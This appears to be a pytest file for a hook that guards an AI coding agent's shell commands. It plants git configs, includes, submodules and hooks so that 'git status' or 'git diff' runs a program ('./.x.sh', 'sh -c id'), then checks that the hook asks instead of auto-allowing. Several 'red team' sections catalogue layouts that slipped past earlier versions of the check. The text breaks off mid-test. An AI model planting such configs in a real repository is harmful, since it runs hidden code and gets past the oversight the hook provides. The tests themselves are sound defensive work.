"""Issue 20, the git families: config git reads that the scanner never read (1), secrets
read through git objects (2), and `git stash -u` / `git clean` taking the untracked
decision log and hook settings out of the work tree (6).

Every call goes through the mounted hook (tests/test_escapes.py). Repositories are
planted the way an attacker with only the Write tool could plant them — a `.git/commondir`,
a `.git` file, a bare repository's files, a `config.worktree`, an include — and then a
read-only git command must not get the explicit `allow` (which would switch Claude Code's
own prompt off): it is asked about. Writing those files is persistence, denied.
"""

from __future__ import annotations

import os
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.test_escapes import Ask, Project, _mount

FSMONITOR = "[core]\n\tfsmonitor = ./.x.sh\n"
_GIT_ENV = {"GIT_CONFIG_NOSYSTEM": "1", "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@x",
            "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@x"}  # fmt: skip


def _git(where: Path, *args: str, home: Path) -> None:
    env = {**os.environ, **_GIT_ENV, "HOME": str(home)}
    subprocess.run(["git", *args], cwd=where, env=env, check=True, capture_output=True)


def _write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def _git_dir_layout(where: Path, config: str | None = None) -> None:
    """HEAD, objects/ and refs/: what makes git take a directory for a repository's."""
    _write(where / "HEAD", "ref: refs/heads/main\n")
    (where / "objects").mkdir(parents=True, exist_ok=True)
    (where / "refs" / "heads").mkdir(parents=True, exist_ok=True)
    if config is not None:
        _write(where / "config", config)


def _plant(cases: Path) -> None:
    # a: .git/commondir pointing at a directory whose config runs a program
    _write(cases / "a" / ".git" / "HEAD", "ref: refs/heads/main\n")
    _write(cases / "a" / ".git" / "commondir", "../../shared-a\n")
    _git_dir_layout(cases / "shared-a", FSMONITOR)
    # b: a .git file whose gitdir has a commondir (absolute)
    _write(cases / "b" / ".git", "gitdir: ../b-store\n")
    _write(cases / "b-store" / "HEAD", "ref: refs/heads/main\n")
    _write(cases / "b-store" / "commondir", str(cases / "b-common") + "\n")
    _git_dir_layout(cases / "b-common", '[diff]\n\texternal = "sh -c id"\n')
    # c: a bare repository embedded in the workspace, its work tree itself
    _git_dir_layout(cases / "c", "[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = x.sh\n")
    (cases / "c" / "src").mkdir()
    # d: config.worktree once extensions.worktreeConfig is on
    _git_dir_layout(cases / "d" / ".git", "[extensions]\n\tworktreeConfig = true\n")
    _write(cases / "d" / ".git" / "config.worktree", FSMONITOR)
    # e: include.path, relative to the including file
    _git_dir_layout(cases / "e" / ".git", "[include]\n\tpath = ../extra.inc\n")
    _write(cases / "e" / "extra.inc", '[filter "x"]\n\tclean = ./x.sh %f\n')
    # f: includeIf (taken as possibly true), nested include, ~ in the path
    _git_dir_layout(cases / "f" / ".git", '[includeIf "onbranch:nope"]\n\tpath = inc/one\n')
    _write(cases / "f" / ".git" / "inc" / "one", "[include]\n\tpath = two\n")
    _write(cases / "f" / ".git" / "inc" / "two", '[diff "secret"]\n\ttextconv = ./t.sh\n')
    # g: spellings of the section and key git accepts
    _git_dir_layout(cases / "g" / ".git", "[CoRe]fsMonitor=./x\\\n.sh\n")
    # h: includes nested past git's own depth
    _git_dir_layout(cases / "h" / ".git", "[include]\n\tpath = i0\n")
    for index in range(12):
        _write(cases / "h" / ".git" / f"i{index}", f"[include]\n\tpath = i{index + 1}\n")
    # i: a linked worktree: .git file -> worktrees/<id> with a commondir
    _git_dir_layout(cases / "i-main" / ".git", FSMONITOR.replace("fsmonitor", "pager = sh -c id ;"))
    _write(cases / "i-main" / ".git" / "worktrees" / "wt" / "HEAD", "ref: refs/heads/x\n")
    _write(cases / "i-main" / ".git" / "worktrees" / "wt" / "commondir", "../..\n")
    _write(cases / "i" / ".git", "gitdir: ../i-main/.git/worktrees/wt\n")
    _write(cases / "i-main" / ".git" / "config", '[merge "m"]\n\tdriver = ./m.sh\n[core]\n\tfsmonitor = ./f.sh\n')
    # j: a shell alias named like the command run
    _git_dir_layout(cases / "j" / ".git", '[alias]\n\tst = "!sh -c id"\n')
    # k: GIT_DIR / --git-dir / GIT_COMMON_DIR name a repository elsewhere
    _git_dir_layout(cases / "k-store", FSMONITOR)
    (cases / "k").mkdir()
    # everyday: a repository with git-lfs and a plain one
    _git_dir_layout(
        cases / "lfs" / ".git",
        '[filter "lfs"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n'
        "\tprocess = git-lfs filter-process\n\trequired = true\n[core]\n\tfsmonitor = false\n"
        "\tpager = less -FRX\n[pager]\n\tbranch = false\n",
    )


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Project, Ask]]:
    project = Project(tmp_path_factory.mktemp("git"))
    _plant(project.dir / "cases")
    _git(project.dir / "cases", "init", "-q", "plain", home=project.home)
    with pytest.MonkeyPatch.context() as monkeypatch:
        ask, close = _mount(monkeypatch, project)
        yield project, ask
        close()


READ_ONLY = ["git status", "git diff", "git log --oneline -3", "ls -la && git status",
             "git branch -a", "git show --stat"]  # fmt: skip


def _flagged(answer: tuple[str | None, str]) -> bool:
    return answer[0] in ("deny", "ask")


@pytest.mark.parametrize("command", READ_ONLY)
@pytest.mark.parametrize("case", ["a", "b", "c", "c/src", "d", "e", "f", "g", "h", "i", "i-main"])
def test_planted_config_is_found_as_git_finds_it(
    planted: tuple[Project, Ask], case: str, command: str
) -> None:
    project, ask = planted
    answer = ask("Bash", cwd=str(project.dir / "cases" / case), command=command)
    assert _flagged(answer) and answer[0] != "allow", (case, command, answer)


@pytest.mark.parametrize(
    "command",
    [
        "git -C cases/a status",
        "cd cases/b && git diff",
        "git --git-dir=cases/k-store status",
        "git --git-dir cases/c log -1",
        "GIT_DIR=cases/k-store git status",
        "GIT_DIR=cases/plain/.git GIT_COMMON_DIR=cases/k-store git status",
        "git -C cases/j st",
        "git -C cases/e/src status",
    ],
)
def test_repositories_named_or_reached_otherwise(planted: tuple[Project, Ask], command: str) -> None:
    _, ask = planted
    answer = ask("Bash", command=command)
    assert _flagged(answer), (command, answer)


@pytest.mark.parametrize("command", ["git status", "git diff --stat", "git log --oneline -3", "git branch -a"])
@pytest.mark.parametrize("case", ["plain", "lfs"])
def test_ordinary_repositories_stay_read_only(
    planted: tuple[Project, Ask], case: str, command: str
) -> None:
    project, ask = planted
    assert ask("Bash", cwd=str(project.dir / "cases" / case), command=command)[0] == "allow"


# The user's own config: planted includes and programs that run on `git status`, but not
# what people set up there (a pager, an ssh command, a signing program, shell aliases).


@pytest.mark.parametrize(
    ("where", "text"),
    [
        (".gitconfig", FSMONITOR),
        (".config/git/config", '[diff]\n\texternal = ./d.sh\n'),
        (".gitconfig", "[include]\n\tpath = ~/work.inc\n"),
        (".gitconfig", '[includeIf "gitdir:~/"]\n\tpath = .config/extra\n'),
    ],
)
def test_the_users_config_is_read_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str, text: str) -> None:
    project = Project(tmp_path)
    _write(project.home / where, text)
    _write(project.home / "work.inc", '[filter "f"]\n\tsmudge = ./s.sh\n')
    _write(project.home / ".config" / "extra", FSMONITOR)
    _git(project.dir, "init", "-q", home=project.home)
    ask, close = _mount(monkeypatch, project)
    try:
        for command in ("git status", "git log -1"):
            assert ask("Bash", command=command)[0] == "ask", (where, command)
    finally:
        close()


def test_what_people_set_up_in_their_own_config_stays_read_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = Project(tmp_path)
    _write(
        project.home / ".gitconfig",
        "[core]\n\tpager = delta\n\tsshCommand = ssh -i ~/.ssh/work\n\tfsmonitor = true\n"
        '[alias]\n\tlg = "!git log --graph"\n[gpg]\n\tprogram = /usr/local/bin/gpg\n'
        '[filter "lfs"]\n\tclean = git-lfs clean -- %f\n\tprocess = git-lfs filter-process\n'
        '[credential]\n\thelper = osxkeychain\n',
    )
    _git(project.dir, "init", "-q", home=project.home)
    ask, close = _mount(monkeypatch, project)
    try:
        assert ask("Bash", command="git status && git diff --stat")[0] == "allow"
        assert ask("Bash", command="git lg")[0] == "ask"  # the shell alias it runs
    finally:
        close()


def test_a_config_planted_under_its_old_size_and_times_is_read_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A config rewritten in place after `git status` was judged, to the same size, its
    mtime set back: git runs the planted program, so the policy must read it again —
    a file's size, inode and times say nothing sure of what it holds."""
    project = Project(tmp_path)
    _git(project.dir, "init", "-q", home=project.home)
    config = project.dir / ".git" / "config"
    clean = config.read_text()
    planted = FSMONITOR + "#" * (len(clean) - len(FSMONITOR) - 1) + "\n"
    assert len(planted) == len(clean)
    ask, close = _mount(monkeypatch, project)
    try:
        assert ask("Bash", command="git status")[0] == "allow"
        before = os.stat(config)
        with open(config, "r+") as rewrite:
            rewrite.write(planted)
        os.utime(config, ns=(before.st_atime_ns, before.st_mtime_ns))
        after = os.stat(config)
        assert (after.st_ino, after.st_size, after.st_mtime_ns) == (
            before.st_ino,
            before.st_size,
            before.st_mtime_ns,
        )
        assert ask("Bash", command="git status")[0] == "ask"
    finally:
        close()


def _fsmonitor_git_reads(where: Path, env: dict[str, str]) -> str:
    """The core.fsmonitor real git reads in `where`: the oracle the layouts are checked
    against before the hook is asked."""
    seen = subprocess.run(
        ["git", "config", "core.fsmonitor"], cwd=where, env=env, capture_output=True, text=True
    )
    return seen.stdout.strip()


_LINE_BREAKS = ["\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\u0085", "\u2028"]


def test_a_line_break_git_does_not_know_hides_no_setting(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """git ends a config line at `\\n` alone: a value holding a character Python's
    `splitlines` breaks at (`\\r`, a form feed, U+2028...) opens no section, and the
    `fsmonitor` after it is `core`'s — as git reads it, and runs it."""
    project = Project(tmp_path)
    _git(project.dir, "init", "-q", home=project.home)
    env = {**os.environ, **_GIT_ENV, "HOME": str(project.home)}
    vendored = []
    for number, line_break in enumerate(_LINE_BREAKS):
        where = project.dir / "vendor" / f"lib{number}"
        where.mkdir(parents=True)
        _git(where, "init", "-q", home=project.home)
        with open(where / ".git" / "config", "ab") as config:
            text = "[core]\n\tcomment = x" + line_break + "[x]\n\tfsmonitor = ./.x.sh\n"
            config.write(text.encode())
        assert _fsmonitor_git_reads(where, env) == "./.x.sh", repr(line_break)  # what git itself reads
        vendored.append((line_break, where))
    ask, close = _mount(monkeypatch, project)
    try:
        for line_break, where in vendored:
            assert ask("Bash", cwd=str(where), command="git status")[0] == "ask", repr(line_break)
    finally:
        close()


def _vendored_repository(project: Project, how: str) -> Path:
    """A repository unpacked in the project whose config git finds through a path
    written with spaces Python would strip: the planted config is where git looks, a
    clean one where the space-trimmed path leads."""
    vendored = project.dir / "vendor" / how
    if how == "gitdir":
        _write(vendored / ".git", "gitdir:  store\n")  # (git: the path is " store")
        planted, clean = vendored / " store", vendored / "store"
    else:
        _write(vendored / ".git" / "HEAD", "ref: refs/heads/main\n")
        _write(vendored / ".git" / "commondir", "../store \n")  # (git: "../store ")
        planted, clean = vendored / "store ", vendored / "store"
    _git_dir_layout(planted, FSMONITOR)
    _git_dir_layout(clean, "[core]\n\tbare = false\n")
    return vendored


@pytest.mark.parametrize("how", ["gitdir", "commondir"])
def test_a_repository_is_found_where_git_finds_it_spaces_and_all(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, how: str
) -> None:
    project = Project(tmp_path)
    _git(project.dir, "init", "-q", home=project.home)
    vendored = _vendored_repository(project, how)
    env = {**os.environ, **_GIT_ENV, "HOME": str(project.home)}
    assert _fsmonitor_git_reads(vendored, env) == "./.x.sh"  # what git itself reads
    ask, close = _mount(monkeypatch, project)
    try:
        assert ask("Bash", cwd=str(vendored), command="git status")[0] == "ask"
    finally:
        close()


def test_a_quoted_value_keeps_its_spaces_as_git_keeps_them() -> None:
    """`"false "` is no boolean to git: core.fsmonitor names a program then."""
    from policy.analysis.git import _parse_config, _runs_program

    (setting,) = _parse_config('[core]\n\tfsmonitor = "false "\n')
    assert setting.value == "false "
    assert _runs_program(setting, True, "status")
    (plain,) = _parse_config("[core]\n\tfsmonitor = false   ; off\n")
    assert plain.value == "false" and not _runs_program(plain, True, "status")


def _planted_layout(vendor: Path, case: str) -> Path:
    """A repository (or a directory inside one) where git finds a planted
    `core.fsmonitor` by a way of reading the policy once read otherwise; the
    directory to run `git status` in."""
    here = vendor / case
    if case == "comment ending in a backslash":
        _git_dir_layout(here / ".git", "[core]\n\teditor = vi # note \\\n" + FSMONITOR[7:])
    elif case == "two headers on a line":
        _git_dir_layout(here / ".git", "[x] [core] fsmonitor = ./.x.sh\n")
    elif case == ".git a link, an include with ..":
        store = vendor / "stores" / "deep" / "g"
        _git_dir_layout(store, "[include]\n\tpath = ../evil.inc\n")
        _write(vendor / "stores" / "deep" / "evil.inc", FSMONITOR)
        here.mkdir(parents=True)
        (here / ".git").symlink_to(store)
    elif case == "gitdir: through a link then ..":
        _git_dir_layout(vendor / "elsewhere" / "x" / "store", FSMONITOR)
        _git_dir_layout(here / "store", "[core]\n\tbare = false\n")
        (here / "lnk").symlink_to(vendor / "elsewhere" / "x" / "y")
        (vendor / "elsewhere" / "x" / "y").mkdir()
        _write(here / ".git", "gitdir: lnk/../store\n")
    elif case.startswith("commondir ending"):
        ending = {"commondir ending CRLF": "\r\n", "commondir ending in 5,000 newlines": "\n" * 5000}
        _write(here / ".git" / "HEAD", "ref: refs/heads/main\n")
        _write(here / ".git" / "commondir", "../store" + ending[case])
        _git_dir_layout(here / "store", FSMONITOR)
    elif case == "an inner .git whose HEAD is no ref":
        _git_dir_layout(here / ".git", FSMONITOR)
        inner = here / "sub"
        _git_dir_layout(inner / ".git", "[core]\n\tbare = false\n")
        _write(inner / ".git" / "HEAD", "garbage\n")
        return inner
    elif case == "objects and refs executable files":
        _write(here / ".git" / "HEAD", "ref: refs/heads/main\n")
        for name in ("objects", "refs"):
            _write(here / ".git" / name, "").chmod(0o755)
        _write(here / ".git" / "config", FSMONITOR)
    elif case == "70 directories below the repository":
        _git_dir_layout(here / ".git", FSMONITOR)
        deep = here.joinpath(*["d"] * 70)
        deep.mkdir(parents=True)
        return deep
    return here


_PLANTED = [
    "comment ending in a backslash",
    "two headers on a line",
    ".git a link, an include with ..",
    "gitdir: through a link then ..",
    "commondir ending CRLF",
    "commondir ending in 5,000 newlines",
    "an inner .git whose HEAD is no ref",
    "objects and refs executable files",
    "70 directories below the repository",
]


def test_a_planted_fsmonitor_git_finds_is_found(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Red team after the reading was made git's: each layout, checked against real
    git (it reads the planted program), makes `git status` ask."""
    project = Project(tmp_path)
    _git(project.dir, "init", "-q", home=project.home)
    env = {**os.environ, **_GIT_ENV, "HOME": str(project.home)}
    planted = []
    for number, case in enumerate(_PLANTED):
        where = _planted_layout(project.dir / f"vendor{number}", case)
        assert _fsmonitor_git_reads(where, env) == "./.x.sh", case  # what git itself reads
        planted.append((case, where))
    ask, close = _mount(monkeypatch, project)
    try:
        for case, where in planted:
            assert ask("Bash", cwd=str(where), command="git status")[0] == "ask", case
    finally:
        close()


def test_a_submodule_named_in_three_parts_is_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A submodule's git directory is `.git/modules/<name>`, and its name may hold
    slashes: `git status` in the superproject reads `.git/modules/a/b/c/config`."""
    project = Project(tmp_path)
    _git(project.dir, "init", "-q", home=project.home)
    source, superproject = project.dir / "src", project.dir / "vendor" / "sup"
    for where in (source, superproject):
        where.mkdir(parents=True)
        _git(where, "init", "-q", home=project.home)
    _write(source / "a", "1\n")
    _git(source, "add", "a", home=project.home)
    _git(source, "commit", "-qm", "x", home=project.home)
    _git(
        superproject, "-c", "protocol.file.allow=always", "submodule", "add", "--name", "a/b/c",
        str(source), "deps/lib", home=project.home,
    )  # fmt: skip
    _git(superproject, "commit", "-qm", "s", home=project.home)
    with open(superproject / ".git" / "modules" / "a" / "b" / "c" / "config", "a") as config:
        config.write(FSMONITOR)
    ask, close = _mount(monkeypatch, project)
    try:
        assert ask("Bash", cwd=str(superproject), command="git status")[0] == "ask"
    finally:
        close()


@pytest.mark.parametrize("added", ["submodule add", "add of an embedded repository"])
def test_a_submodule_with_a_git_directory_of_its_own_is_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, added: str
) -> None:
    """A submodule checked out with its own `.git` directory (`git submodule add` of a
    repository already in the work tree, or `git add` of one: a gitlink, no
    `.gitmodules`): `git status` in the superproject runs git in it, which reads its
    config."""
    project = Project(tmp_path)
    _git(project.dir, "init", "-q", home=project.home)
    superproject = project.dir / "vendor" / "sup"
    inner = superproject / "lib"
    for where in (superproject, inner):
        where.mkdir(parents=True, exist_ok=True)
        _git(where, "init", "-q", home=project.home)
    _write(inner / "a", "1\n")
    _git(inner, "add", "a", home=project.home)
    _git(inner, "commit", "-qm", "x", home=project.home)
    if added == "submodule add":
        _git(superproject, "submodule", "add", "./lib", "lib", home=project.home)
    else:
        _git(superproject, "add", "lib", home=project.home)
    _git(superproject, "commit", "-qm", "s", home=project.home)
    marker = tmp_path / "ran"
    _write(inner / ".x.sh", f"#!/bin/sh\ntouch {marker}\n").chmod(0o755)
    ask, close = _mount(monkeypatch, project)
    try:
        assert ask("Bash", cwd=str(superproject), command="git status")[0] == "allow"
        with open(inner / ".git" / "config", "a") as config:
            config.write(FSMONITOR)
        assert ask("Bash", cwd=str(superproject), command="git status")[0] == "ask"
    finally:
        close()
    _git(superproject, "status", home=project.home)
    assert marker.exists()  # (git itself ran it)


def _superproject(root: Path, home: Path, name: str = "lib") -> Path:
    """A superproject with a submodule `name` (its git directory below .git/modules),
    checked out and committed."""
    source, superproject = root / "src", root / "sup"
    for where in (source, superproject):
        where.mkdir(parents=True)
        _git(where, "init", "-q", home=home)
    _write(source / "a", "1\n")
    _git(source, "add", "a", home=home)
    _git(source, "commit", "-qm", "x", home=home)
    _git(
        superproject, "-c", "protocol.file.allow=always", "submodule", "add", "--name", name,
        str(source), "deps/lib", home=home,
    )  # fmt: skip
    _git(superproject, "commit", "-qm", "s", home=home)
    return superproject


def _ran_layout(root: Path, home: Path, case: str, marker: Path) -> tuple[Path, str]:
    """Red team 3's layouts: where to run which git command for it to run `marker`'s
    program."""
    program = f"#!/bin/sh\ntouch {marker}\n"
    if case == "a module directory that is a link":
        superproject = _superproject(root, home)
        modules = superproject / ".git" / "modules"
        (modules / "lib").rename(root / "store")
        (modules / "lib").symlink_to(Path("../../../store"))
        _write(root / "store" / "fsm.sh", program).chmod(0o755)
        config = root / "store" / "config"
        # (its relative core.worktree would lead elsewhere from the store: made whole)
        text = config.read_text().replace("../../../deps/lib", str(superproject / "deps" / "lib"))
        config.write_text(text + f"[core]\n\tfsmonitor = {root / 'store' / 'fsm.sh'}\n")
        return superproject, "git status"
    if case == "a module named inside another's directory":
        superproject = _superproject(root, home, "a/b")
        _write(superproject / ".git" / "modules" / "a" / "config", "[core]\n")
        _write(root / "fsm.sh", program).chmod(0o755)
        with open(superproject / ".git" / "modules" / "a" / "b" / "config", "a") as config:
            config.write(f"[core]\n\tfsmonitor = {root / 'fsm.sh'}\n")
        return superproject, "git status"
    superproject = _superproject(root, home)
    module = superproject / ".git" / "modules" / "lib"
    if case == "a submodule's own post-index-change":
        _write(module / "hooks" / "post-index-change", program).chmod(0o755)
    elif case == "hooksPath of a submodule not taken for the repository's":
        _git(superproject, "config", "core.hooksPath", ".h", home=home)
        _write(superproject / ".h" / "post-index-change", program).chmod(0o755)
        with open(module / "config", "a") as config:
            config.write("[core]\n\thooksPath = /nonexistent\n")
        os.utime(superproject / ".gitmodules", (1e9, 1e9))
        return superproject, "git status"
    elif case == "hooksPath through a link and ..":
        deep = root / "v" / "deep"
        (deep / "dir").mkdir(parents=True)
        (superproject / "lnk").symlink_to(deep / "dir")
        _git(superproject, "config", "core.hooksPath", "lnk/../.h2", home=home)
        _write(deep / ".h2" / "post-index-change", program).chmod(0o755)
        os.utime(superproject / ".gitmodules", (1e9, 1e9))
        return superproject, "git status"
    os.utime(superproject / "deps" / "lib" / "a", (1e9, 1e9))
    return superproject, "git status"


_RAN = [
    "a module directory that is a link",
    "a module named inside another's directory",
    "a submodule's own post-index-change",
    "hooksPath of a submodule not taken for the repository's",
    "hooksPath through a link and ..",
]


@pytest.mark.parametrize("case", _RAN)
def test_a_program_git_runs_in_a_repository_s_parts_is_asked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, case: str
) -> None:
    """Red team 3: real git runs the planted program (a marker made), so `git status`
    is asked, not allowed."""
    project = Project(tmp_path)
    _git(project.dir, "init", "-q", home=project.home)
    marker = tmp_path / "ran"
    where, command = _ran_layout(project.dir / "vendor", project.home, case, marker)
    ask, close = _mount(monkeypatch, project)
    try:
        assert ask("Bash", cwd=str(where), command=command)[0] == "ask", case
    finally:
        close()
    env = {**os.environ, **_GIT_ENV, "HOME": str(project.home)}
    subprocess.run(["bash", "-c", command], cwd=where, env=env, capture_output=True)
    assert marker.exists(), case  # (git itself ran it)


def test_a_repository_is_found_from_where_git_really_runs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """git walks up from the real path of where it runs: a link into a planted
    repository's tree runs that repository's config, not the project's."""
    project = Project(tmp_path)
    _git(project.dir, "init", "-q", home=project.home)
    planted = project.dir / "vendor" / "a"
    planted.mkdir(parents=True)
    _git(planted, "init", "-q", home=project.home)
    with open(planted / ".git" / "config", "a") as config:
        config.write(FSMONITOR)
    (planted / "inner" / "dir").mkdir(parents=True)
    (project.dir / "lnk").symlink_to("vendor/a/inner/dir")
    _write(project.dir / "store1" / "HEAD", "ref: refs/heads/main\n")
    ask, close = _mount(monkeypatch, project)
    try:
        assert ask("Bash", cwd=str(project.dir / "lnk"), command="git status")[0] == "ask"
        assert ask("Bash", command="git -C lnk status")[0] == "ask"
        assert ask("Bash", command="git status")[0] == "allow"  # (the project's own)
    finally:
        close()


def test_a_nul_in_a_git_file_is_read_as_git_reads_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """git reads a `.git` file as a C string, up to its first NUL."""
    project = Project(tmp_path)
    _git(project.dir, "init", "-q", home=project.home)
    vendored = project.dir / "vendor" / "nul"
    _git_dir_layout(vendored / "store1", FSMONITOR)
    _write(vendored / ".git", "gitdir: store1\0junk\n")
    env = {**os.environ, **_GIT_ENV, "HOME": str(project.home)}
    assert _fsmonitor_git_reads(vendored, env) == "./.x.sh"
    ask, close = _mount(monkeypatch, project)
    try:
        assert ask("Bash", cwd=str(vendored), command="git status")[0] == "ask"
    finally:
        close()


@pytest.mark.slow
def test_many_checked_out_submodules_stay_read_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Red team 4, a false alarm: each checked-out submodule's config is read once (by
    the modules walk), so twenty-odd of them stay within the config cap."""
    project = Project(tmp_path)
    _git(project.dir, "init", "-q", home=project.home)
    superproject = _superproject(project.dir / "vendor", project.home)
    source = project.dir / "vendor" / "src"
    for number in range(22):
        _git(
            superproject, "-c", "protocol.file.allow=always", "submodule", "add", "-q",
            str(source), f"more/m{number}", home=project.home,
        )  # fmt: skip
    _git(superproject, "commit", "-qm", "more", home=project.home)
    ask, close = _mount(monkeypatch, project)
    try:
        for command in ("git status", "git diff --stat"):
            assert ask("Bash", cwd=str(superproject), command=command)[0] == "allow", command
    finally:
        close()


def test_everyday_submodules_stay_read_only(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Red team 4, false alarms: a submodule using husky (a relative core.hooksPath in
    its own config), one with thousands of refs — `git status` and `git log` in the
    superproject stay the read-only allow."""
    project = Project(tmp_path)
    _git(project.dir, "init", "-q", home=project.home)
    superproject = _superproject(project.dir / "vendor", project.home)
    module = superproject / ".git" / "modules" / "lib"
    _git(superproject / "deps" / "lib", "config", "core.hooksPath", ".husky/_", home=project.home)
    _write(superproject / "deps" / "lib" / ".husky" / "_" / "pre-commit", "#!/bin/sh\n").chmod(0o755)
    for number in range(2600):  # (what fetches of many branches leave)
        _write(module / "refs" / "remotes" / "origin" / f"b{number}", "0" * 40 + "\n")
    ask, close = _mount(monkeypatch, project)
    try:
        for command in ("git status", "git log -1", "git diff --stat"):
            assert ask("Bash", cwd=str(superproject), command=command)[0] == "allow", command
        # the husky directory, relative to the submodule's work tree, is looked in
        _write(
            superproject / "deps" / "lib" / ".husky" / "_" / "post-index-change", "#!/bin/sh\n"
        ).chmod(0o755)
        assert ask("Bash", cwd=str(superproject), command="git status")[0] == "ask"
    finally:
        close()


@pytest.mark.parametrize(
    "case", ["a link inside the work tree", "a submodule's hooksPath in an include", "git add"]
)
def test_red_team_four_layouts_are_asked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, case: str
) -> None:
    project = Project(tmp_path)
    _git(project.dir, "init", "-q", home=project.home)
    vendor = project.dir / "vendor"
    program = "#!/bin/sh\ntouch " + str(tmp_path / "ran") + "\n"
    if case == "a link inside the work tree":
        where = vendor / "A"
        where.mkdir(parents=True)
        _git(where, "init", "-q", home=project.home)
        _git(where, "config", "core.hooksPath", ".hooks", home=project.home)
        _write(where / ".hooks" / "post-index-change", program).chmod(0o755)
        (where / "b").mkdir()
        (where / "x").mkdir()
        (where / "x" / "b").symlink_to("../b")
        cwd, command = where / "x" / "b", "git status"
    elif case == "a submodule's hooksPath in an include":
        superproject = _superproject(vendor, project.home)
        _write(tmp_path / "inc.cfg", f"[core]\n\thooksPath = {tmp_path / 'hk'}\n")
        _write(tmp_path / "hk" / "post-index-change", program).chmod(0o755)
        with open(superproject / ".git" / "modules" / "lib" / "config", "a") as config:
            config.write(f"[include]\n\tpath = {tmp_path / 'inc.cfg'}\n")
        cwd, command = superproject, "git status"
    else:
        superproject, inner = vendor / "B", vendor / "B" / "emb"
        for where in (superproject, inner):
            where.mkdir(parents=True, exist_ok=True)
            _git(where, "init", "-q", home=project.home)
        _write(inner / "a", "1\n")
        _git(inner, "add", "a", home=project.home)
        _git(inner, "commit", "-qm", "x", home=project.home)
        _git(superproject, "add", "emb", home=project.home)
        _git(superproject, "commit", "-qm", "s", home=project.home)
        with open(inner / ".git" / "config", "a") as config:
            config.write(FSMONITOR)
        cwd, command = superproject, "git add -A"
    ask, close = _mount(monkeypatch, project)
    try:
        assert ask("Bash", cwd=str(cwd), command=command)[0] == "ask", case
    finally:
        close()


_RED_TEAM_FIVE = {
    # a checked-out submodule's git directory outside .git/modules, its core.worktree
    # elsewhere, a relative hooksPath there
    "core.worktree elsewhere": (
        "mk t; cd t; mv .git/modules/sub store; rmdir .git/modules;"
        " echo 'gitdir: ../store' > sub/.git; git config -f store/config core.worktree ../other;"
        " git config -f store/config core.hooksPath hooks; mkdir other; cp sub/f other/f;"
        " hk other/hooks; printf 'store\nother\n' >> .git/info/exclude; touch -d @1 other/f",
        "git status",
    ),
    # the submodule is a linked worktree of another repository: its common hooks
    "a linked worktree's common hooks": (
        "mk t; cd t; rm -rf sub; git clone -q ../lib tools/X; echo tools >> .git/info/exclude;"
        " git -C tools/X worktree add -q --detach ../../sub; hk tools/X/.git/hooks;"
        " touch -d @1 sub/f",
        "git status",
    ),
    # hooksPath in the submodule's config.worktree
    "hooksPath in config.worktree": (
        "mk t; cd t; git -C sub config core.repositoryformatversion 1;"
        " git -C sub config extensions.worktreeConfig true;"
        " git -C sub config --worktree core.hooksPath h2; hk sub/h2;"
        " echo h2 >> .git/modules/sub/info/exclude; touch -d @1 sub/f",
        "git status",
    ),
    # a submodule named x/hooks, not checked out: its git directory is modules/x/hooks
    "a module named like a git directory's own": (
        "mk t; cd t; git submodule -q deinit -f sub; rm -rf .git/modules/sub;"
        " git config -f .gitmodules --rename-section submodule.sub submodule.x/hooks;"
        " git commit -qam n; git submodule -q update --init; git submodule -q deinit -f sub;"
        " git config -f .git/modules/x/hooks/config core.fsmonitor \"$M.sh\"",
        "git submodule update --init",
    ),
    # git stage is git add
    "git stage": (
        "git init -q t; cd t; echo a > f; git add f; git commit -qm x; git clone -q ../lib s;"
        " git add s 2>/dev/null; git commit -qm s; git -C s config core.fsmonitor \"$M.sh\";"
        " echo b > s/f",
        "git stage -A",
    ),
}


@pytest.mark.parametrize("case", list(_RED_TEAM_FIVE))
def test_red_team_five_layouts_are_asked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, case: str
) -> None:
    """Submodules whose hooks or config git finds where a first reading did not; real
    git runs the planted program in each (the marker), so the command must not pass."""
    project = Project(tmp_path)
    _git(project.dir, "init", "-q", home=project.home)
    vendor = project.dir / "vendor"
    vendor.mkdir()
    marker = tmp_path / "ran"
    build, command = _RED_TEAM_FIVE[case]
    script = (
        "set -e; M=" + str(marker) + "\n"
        "printf '#!/bin/sh\\ntouch %s\\nexit 1\\n' \"$M\" > \"$M.sh\"; chmod +x \"$M.sh\"\n"
        "hk() { mkdir -p \"$1\"; cp \"$M.sh\" \"$1/post-index-change\"; }\n"
        "mk() { git init -q $1; (cd $1; echo a > f; git add f; git commit -qm x;"
        " git submodule -q add ../lib sub; git commit -qm s); }\n"
        "git init -q lib; (cd lib; echo a > f; git add f; git commit -qm x)\n" + build
    )
    env = {
        **os.environ, **_GIT_ENV, "HOME": str(project.home), "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": "protocol.file.allow", "GIT_CONFIG_VALUE_0": "always",
    }  # fmt: skip
    subprocess.run(["bash", "-c", script], cwd=vendor, env=env, check=True, capture_output=True)
    where = vendor / "t"
    ask, close = _mount(monkeypatch, project)
    try:
